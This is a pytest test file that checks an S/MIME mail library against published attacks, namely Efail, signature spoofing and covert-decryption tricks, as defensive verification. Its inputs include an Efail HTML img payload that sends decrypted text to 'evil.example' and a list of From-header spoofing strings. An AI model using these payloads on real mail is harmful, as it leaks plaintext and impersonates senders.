"""Published attacks on signed and encrypted mail: none may deceive the reader or give anything away.

Poddebniak et al., "Efail" (2018); Müller et al., "Johnny, you are fired!" (2019) and "Re: What's Up Johnny?"
(2019). What else follows from the RFCs stands in `test_hostile_mail`.
"""

from __future__ import annotations

import base64
import io
from dataclasses import replace
from datetime import UTC, datetime
from email.utils import format_datetime
from typing import TYPE_CHECKING

import pytest
from hostile_mails import (
    FROM_ALICE,
    FROM_MALLORY,
    PLAIN,
    REST,
    TEXT,
    Forbidden,
    attached,
    clear_signed,
    enveloped,
    html,
    multipart,
    opened,
    pkcs7_mime,
    signed,
)

from tokensign.algorithms import KeyUsage
from tokensign.cms.signed import sign_detached
from tokensign.cms.signed_data import read_signed_data
from tokensign.errors import DecryptionError, UsageError
from tokensign.report import Status
from tokensign.smime.mail_report import LayerKind

if TYPE_CHECKING:
    from collections.abc import Callable

    from tokensign.token import TokenKey
    from tokensign.verification import Expectations

# --- Efail


def test_direct_exfiltration_an_encrypted_part_between_others_is_not_decrypted(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    message = multipart(
        html(b'<img src="http://evil.example/'), pkcs7_mime(enveloped(TEXT, bob)), html(b'">')
    )
    report, output = opened(message, mail_trust, Forbidden())
    assert report.layers == ()
    assert report.verdict == "unsigned"
    assert any("part 2 is encrypted, and was not opened" in remark for remark in report.remarks)
    assert output == message


def test_direct_exfiltration_a_part_that_is_named_comes_without_what_is_around_it(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    message = multipart(
        html(b'<img src="http://evil.example/'), pkcs7_mime(enveloped(TEXT, bob)), html(b'">')
    )
    report, output = opened(message, mail_trust, [bob], part="2")
    assert [layer.kind for layer in report.layers] == [LayerKind.ENCRYPTED]
    assert b"Pay 100 to Bob." in output
    assert b"evil" not in output
    assert b"From:" not in output
    with pytest.raises(UsageError, match="neither signed nor encrypted"):
        opened(message, mail_trust, [bob], part="1")
    with pytest.raises(UsageError, match="no part 7"):
        opened(message, mail_trust, [bob], part="7")


def test_cbc_gadget_changed_plaintext_is_marked_as_not_authenticated(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    """Who knows a block of plaintext can change it, and its predecessor into garbage; no key is needed."""
    cms = enveloped(b"Content-Type: text/plain\r\n" * 4 + TEXT + b"x" * 64, bob)
    changed = bytearray(cms)
    changed[-40] ^= 1  # in a block before the last one
    report, output = opened(pkcs7_mime(bytes(changed), FROM_ALICE), mail_trust, [bob])
    (layer,) = report.layers
    assert layer.authenticated is False
    assert report.authenticated is False
    assert report.verdict == "unsigned"
    assert report.sender.status is Status.NOT_CHECKED
    assert "anybody may have sent or changed it" in report.summary()
    assert output


def test_cbc_gadget_a_changed_message_with_a_tag_is_not_opened(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    changed = bytearray(enveloped(TEXT, bob, "aes-256-gcm"))
    changed[-30] ^= 1
    with pytest.raises(DecryptionError):
        opened(pkcs7_mime(bytes(changed), FROM_ALICE), mail_trust, [bob])


@pytest.mark.parametrize(
    "inside",
    [
        pkcs7_mime(b"\x30\x03\x02\x01\x05"),
        pkcs7_mime(b"no CMS at all"),
        b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n****",
        clear_signed(TEXT, b"no signature", b""),
        clear_signed(TEXT, b"", b"").replace(b"--=s--", b""),
        b"X: y\r\n" * 3000 + b"\r\n",
    ],
)
def test_cbc_padding_oracle_what_is_wrong_inside_is_not_told(
    inside: bytes, bob: TokenKey, mail_trust: Expectations
) -> None:
    """RFC 8551 section 6: the answers to changed messages would be an oracle for the content."""
    damaged = enveloped(TEXT, bob)[:-16]
    with pytest.raises(DecryptionError) as outside:
        opened(
            pkcs7_mime(enveloped(TEXT, bob, "aes-256-gcm")[:-16] + bytes(16), FROM_ALICE), mail_trust, [bob]
        )
    assert damaged
    with pytest.raises(DecryptionError) as caught:
        opened(pkcs7_mime(enveloped(inside, bob), FROM_ALICE), mail_trust, [bob])
    assert caught.value.message == outside.value.message
    assert caught.value.hint == outside.value.hint


# --- Johnny, you are fired!


def test_several_signers_must_all_be_whom_from_names(
    alice: TokenKey, mallory: TokenKey, mail_trust: Expectations
) -> None:
    for signers in ((alice, mallory), (mallory, alice)):
        report, output = opened(signed(PLAIN, *signers), mail_trust)
        assert report.verdict == "bad"
        assert "mallory@evil.example, not to alice@acme.example" in report.summary()
        assert output == b""


def test_two_signatures_of_which_one_is_bad_do_not_hold(
    alice: TokenKey, mail_person: Callable[..., TokenKey], mail_trust: Expectations
) -> None:
    second = mail_person("alice-2", "rsa:2048", KeyUsage.SIGN, "alice@acme.example")
    cms = attached(TEXT, alice, second)
    good = pkcs7_mime(cms, FROM_ALICE, b"signed-data")
    assert opened(good, mail_trust)[0].verdict == "good"
    signature = next(
        info.signature
        for info in read_signed_data(io.BytesIO(cms)).signer_infos
        if len(info.signature) == 256
    )
    changed = cms.replace(signature, bytes(255) + b"\x01")
    bad = pkcs7_mime(changed, FROM_ALICE, b"signed-data")
    report, output = opened(bad, mail_trust)
    assert report.verdict == "bad"
    assert output == b""
    report, output = opened(bad, replace(mail_trust, any_signer=True))
    assert report.verdict == "good"
    assert b"Pay 100" in output


def test_the_time_in_a_signature_that_does_not_hold_is_compared_with_nothing(
    alice: TokenKey, mail_person: Callable[..., TokenKey], mail_trust: Expectations
) -> None:
    second = mail_person("alice-2", "rsa:2048", KeyUsage.SIGN, "alice@acme.example")
    cms = attached(TEXT, alice, second)
    header = FROM_ALICE + b"Date: " + format_datetime(datetime.now(UTC)).encode() + b"\r\n"
    author = opened(pkcs7_mime(cms, header, b"signed-data"), mail_trust)[0].author
    assert author is not None
    time_in_cms = f"{author.signers[0].signing_time:%y%m%d%H%M%S}Z".encode()
    changed = cms.replace(time_in_cms, b"20" + time_in_cms[2:], 1)
    message = pkcs7_mime(changed, header, b"signed-data")
    report, _ = opened(message, replace(mail_trust, any_signer=True))
    assert report.author is not None
    assert [signer.holds for signer in report.author.signers] == [False, True]
    assert report.date_offset is not None
    assert abs(report.date_offset) < 600


@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative"])
@pytest.mark.parametrize("first", [True, False])
def test_a_signed_part_beside_others_never_speaks_for_the_mail(
    kind: bytes, *, first: bool, alice: TokenKey, mail_trust: Expectations
) -> None:
    """Shown or hidden (by cid: in HTML, or as an attachment), before or behind the attacker's text."""
    part = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), b"")
    attack = html(b'Pay 900 to Mallory.<img src="cid:signed">')
    parts = (part, attack) if first else (attack, part)
    report, _ = opened(multipart(*parts, kind=kind), mail_trust)
    assert report.verdict == "partial"
    assert report.sender.status is Status.NOT_CHECKED
    assert report.layers == ()
    (signed_part,) = report.signed_parts
    assert signed_part.path == ("1" if first else "2")
    assert signed_part.holds
    assert report.outside == (f"part {'2' if first else '1'} (text/html, {len(attack) - 27} bytes)",)


def test_a_signed_part_in_a_message_within_a_message_speaks_for_itself_only(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    inner = signed(PLAIN, alice)
    forwarded = FROM_MALLORY + b"Content-Type: message/rfc822\r\n\r\n" + inner
    report, _ = opened(forwarded, mail_trust)
    assert report.verdict == "partial"
    assert report.signed_parts[0].path == "1"


def test_an_opaque_signed_part_beside_others_speaks_for_itself_only(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    part = pkcs7_mime(attached(TEXT, alice), b"", b"signed-data")
    report, _ = opened(multipart(html(b"Pay 900."), part), mail_trust)
    assert report.verdict == "partial"
    assert [layer.path for layer in report.signed_parts] == ["2"]


def test_a_bad_signed_part_makes_the_mail_bad(alice: TokenKey, mail_trust: Expectations) -> None:
    part = clear_signed(TEXT.replace(b"100", b"900"), sign_detached(io.BytesIO(TEXT), [alice]), b"")
    report, output = opened(multipart(html(b"hello"), part), mail_trust)
    assert report.verdict == "bad"
    assert output == b""


def test_only_so_many_signed_parts_are_looked_at(alice: TokenKey, mail_trust: Expectations) -> None:
    part = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), b"")
    report, _ = opened(multipart(*[part] * 40), mail_trust)
    assert len(report.signed_parts) == 16
    assert any("more than 16 parts are signed" in remark for remark in report.remarks)


FROM_TRICKS = {
    "two fields": FROM_ALICE + FROM_MALLORY,
    "two fields, the other way": FROM_MALLORY + FROM_ALICE,
    "a field with a space before its colon": FROM_MALLORY + b"From : alice@acme.example\r\n",
    "two addresses": b"From: alice@acme.example, mallory@evil.example\r\n",
    "two addresses, the other way": b"From: mallory@evil.example, alice@acme.example\r\n",
    "a group": b"From: alice@acme.example:mallory@evil.example;\r\n",
    "a group of one": b"From: Friends: mallory@evil.example;\r\n",
    "an address as name": b"From: alice@acme.example <mallory@evil.example>\r\n",
    "a quoted address as name": b'From: "alice@acme.example" <mallory@evil.example>\r\n',
    "a name that closes the address": b'From: "Alice <alice@acme.example>" <mallory@evil.example>\r\n',
    "an encoded address as name": b"From: =?utf-8?q?alice=40acme=2Eexample?= <mallory@evil.example>\r\n",
    "a base64 address as name": b"From: =?utf-8?b?"
    + base64.b64encode(b"alice@acme.example")
    + b"?= <mallory@evil.example>\r\n",
    "an encoded address in quotes": b'From: "=?utf-8?q?alice=40acme=2Eexample?=" <mallory@evil.example>\r\n',
    "a NUL in an encoded word": b"From: =?utf-8?q?alice=40acme=2Eexample=00?= <mallory@evil.example>\r\n",
    "an encoded word as address": b"From: =?utf-8?q?alice=40acme=2Eexample=00?=@evil.example\r\n",
    "a wide sign": "From: alice＠acme.example <mallory@evil.example>\r\n".encode(),  # noqa: RUF001
    "a comment": b"From: mallory@evil.example (alice@acme.example)\r\n",
    "a comment before": b"From: (alice@acme.example) mallory@evil.example\r\n",
    "a NUL": b"From: alice@acme.example\0 <mallory@evil.example>\r\n",
    "a bare CR": b"From: mallory@evil.example\rFrom: alice@acme.example\r\n",
    "text that turns around": "From: Alice \u202e <mallory@evil.example>\r\n".encode(),
    "a line feed in an encoded word": b"From: =?utf-8?q?Alice=0AFrom:_alice?= <mallory@evil.example>\r\n",
    "two at signs": b"From: alice@acme.example@evil.example\r\n",
    "a route": b"From: <@acme.example:mallory@evil.example>\r\n",
    "angles in angles": b"From: <alice@acme.example> <mallory@evil.example>\r\n",
    "text behind the address": b"From: <mallory@evil.example> alice@acme.example\r\n",
    "no From": b"Sender: mallory@evil.example\r\n",
    "an empty From": b"From: \r\n",
    "From of Alice, Sender of Mallory": FROM_ALICE + b"Sender: mallory@evil.example\r\n",
    "a look-alike": "From: alice@\u0430cme.example\r\n".encode(),
    "another case of the local part": b"From: Mallory@evil.example\r\n",
    "a subdomain": b"From: mallory@evil.example.acme.example\r\n",
}


@pytest.mark.parametrize("trick", FROM_TRICKS)
@pytest.mark.parametrize("protected", [True, False])
def test_from_tricks_never_prove_the_sender(
    trick: str, *, protected: bool, mallory: TokenKey, mail_trust: Expectations
) -> None:
    header = FROM_TRICKS[trick] + REST
    entity = header + TEXT.replace(b"text/plain", b'text/plain; hp="clear"') if protected else TEXT
    message = clear_signed(entity, sign_detached(io.BytesIO(entity), [mallory]), header)
    report, output = opened(message, mail_trust)
    assert report.sender.status is not Status.PASSED
    assert report.verdict in ("bad", "unsigned")  # unsigned: where a bare CR hides what is signed
    assert report.verdict == "unsigned" or output == b""


@pytest.mark.parametrize(
    "field",
    [
        b"From: alice@acme.example\r\n",
        b"From: <alice@ACME.example>\r\n",
        b'From: "Alice, of Acme" <alice@acme.example> (from home)\r\n',
        b"From: =?utf-8?q?Al=C3=AFce?= <alice@acme.example>\r\n",
        b"From: alice@acme.example <alice@acme.example>\r\n",
        b"from:\r\n alice@acme.example\r\n",
    ],
)
def test_an_honest_from_proves_the_sender(field: bytes, alice: TokenKey, mail_trust: Expectations) -> None:
    """The other side of the tricks: what people really write is not refused."""
    report, _ = opened(clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), field + REST), mail_trust)
    assert report.sender.status is Status.PASSED
    assert report.verdict == "good"
    assert report.sender_address is not None
    assert report.sender_address.lower() == "alice@acme.example"


def test_a_protected_from_of_somebody_else_does_not_count(
    mallory: TokenKey, mail_trust: Expectations
) -> None:
    """Mallory signs a header that says Alice, and sends it from her own address."""
    message = signed(PLAIN, mallory)
    outside = message.replace(b"From: Alice <alice@acme.example>", b"From: mallory@evil.example", 1)
    report, output = opened(outside, mail_trust)
    assert report.verdict == "bad"
    assert output == b""


# --- Re: What's Up Johnny?


def test_covert_content_in_a_signed_reply_is_not_decrypted(
    bob: TokenKey, mallory: TokenKey, mail_trust: Expectations
) -> None:
    """Mallory hides a stolen ciphertext in her own mail, hoping that it is quoted in the reply."""
    payload = multipart(html(b"What's up?"), pkcs7_mime(enveloped(TEXT, bob)), header=FROM_MALLORY + REST)
    report, output = opened(signed(payload, mallory), mail_trust, Forbidden())
    assert report.verdict == "good"
    assert b"Pay 100" not in output
    assert any("part 1.2 is encrypted, and was not opened" in remark for remark in report.remarks)


def test_covert_content_in_an_encrypted_mail_is_not_decrypted(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    payload = multipart(html(b"What's up?"), pkcs7_mime(enveloped(TEXT, bob)), header=b"")
    report, output = opened(pkcs7_mime(enveloped(payload, bob), FROM_MALLORY), mail_trust, [bob])
    assert len(report.layers) == 1
    assert b"Pay 100" not in output


def test_replies_that_would_go_elsewhere_are_told(alice: TokenKey, mail_trust: Expectations) -> None:
    header = FROM_ALICE + REST + b"Reply-To: mallory@evil.example\r\n"
    message = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), header)
    report, _ = opened(message, mail_trust)
    assert "replies go to mallory@evil.example, says the field Reply-To" in report.remarks
    assert report.headers.protection_of("Reply-To") == "unprotected"
